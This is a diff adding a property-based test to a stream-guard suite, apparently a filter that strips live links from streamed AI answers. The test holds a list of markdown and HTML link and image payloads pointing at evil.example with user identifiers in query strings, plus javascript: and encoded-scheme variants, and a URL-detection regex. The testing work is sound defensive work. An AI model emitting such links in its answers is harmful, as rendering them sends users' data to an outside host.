@@ -158,6 +158,48 @@ describe('stream guard', () => {
   );
   const answers = fc.array(piece, { minLength: 1, maxLength: 30 }).map((p) => p.join(''));
 
+  // Link and image forms a renderer would load or follow; each must come out as on the buffered route.
+  const LINK_FORMS = [
+    '![logo](https://evil.example/p.png?q=[EMAIL_1])',
+    '![logo](<https://evil.example/p q.png>)',
+    '![logo](\n  https://evil.example/p.png\n  "t")',
+    '[click\nhere](https://evil.example/?q=[EMAIL_1])',
+    '[![i](https://evil.example/i.png)](https://evil.example/)',
+    '[click][r]\n\n[r]: https://evil.example/?q=[EMAIL_1]',
+    '![logo][r]\n\n[r]: <https://evil.example/p.png> "t"',
+    'see <https://evil.example/?q=[PHONE_NUMBER_1]>',
+    '<img src="https://evil.example/p.png?[EMAIL_1]" alt="logo">',
+    '<img\n  alt="x"\n  src="https://evil.example/p.png"\n>',
+    '<a href="https://evil.example/">click</a>',
+    '<div style="background:url(https://evil.example/p.png)">x</div>',
+    'go to www.evil.example/?q=[EMAIL_1] now',
+    'go to //evil.example/p.png',
+    '![a](&#104;ttps://evil.example/p.png)',
+    '[a](javascript&#58;alert(1))',
+    '[a](https%3A%2F%2Fevil.example%2F)',
+    '![a](data:image/png;base64,iVBORw0KGgo=)',
+    '[a](java\tscript:alert(1))',
+    'see https&colon;&sol;&sol;evil.example/x?q=[EMAIL_1]',
+    '詳細はhttps://evil.example/a?q=[EMAIL_1]をご覧ください',
+  ];
+  const liveUrls = (text: string) => text.match(/(?:\b(?:https?|ftp|data|javascript|vbscript|file|blob):|(?<![\w:])\/\/|\bwww\.)[^\s<>"'`)]*/gi) ?? [];
+
+  it('every link and image form, in random chunks, comes out as the buffered check makes it, with no live target', () => {
+    fc.assert(
+      fc.property(fc.constantFrom(...LINK_FORMS), fc.array(fc.nat(), { maxLength: 30 }), fc.boolean(), (form, cuts, restore) => {
+        const opts = options(restore);
+        const answer = `${'ご案内です。'.repeat(12)}${form}${'以上です。'.repeat(25)}`;
+        const buffered = checkOutput(answer, opts);
+        const { released, blocked } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, step: 8 }), chunked(answer, cuts));
+        expect(blocked).toBe(buffered.action === 'block');
+        if (!blocked) expect(released).toBe(buffered.text);
+        expect(liveUrls(released)).toEqual([]);
+        expect(released).not.toContain(CALLER.email);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
   it('property: random chunkings release exactly the buffered answer and never an identifier the caller did not give', () => {
     fc.assert(
       fc.property(answers, fc.array(fc.nat(), { maxLength: 40 }), fc.boolean(), fc.integer({ min: 8, max: HOLD_BACK_CHARS }), fc.integer({ min: 1, max: 64 }), (answer, cuts, restore, window, step) => {
